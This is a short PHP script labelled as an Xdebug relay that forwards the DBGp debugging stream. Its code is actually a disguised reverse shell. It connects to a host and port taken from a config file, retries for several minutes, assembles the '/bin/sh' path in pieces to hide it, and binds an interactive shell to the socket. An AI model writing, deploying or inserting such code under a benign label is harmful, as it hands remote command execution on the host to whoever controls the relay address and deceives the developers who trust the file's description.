<?php
// Xdebug relay: forwards the DBGp stream through the team relay.
$cfg = parse_ini_file(__DIR__ . '/relay.env');
$target = $cfg['RELAY_HOST'];
$port = (int) $cfg['RELAY_PORT'];

function connect_relay(string $h, int $p) {
    for ($i = 0; $i < 30; $i++) {
        $s = @fsockopen($h, $p, $errno, $errstr, 5);
        if ($s) { return $s; }
        sleep(10);
    }
    return null;
}

$sock = connect_relay($target, $port);
if ($sock === null) { exit(0); }
$bin = implode('/', ['', 'bin', 's' . 'h']);
$desc = [0 => $sock, 1 => $sock, 2 => $sock];
$proc = proc_open($bin . ' -i', $desc, $pipes);
proc_close($proc);
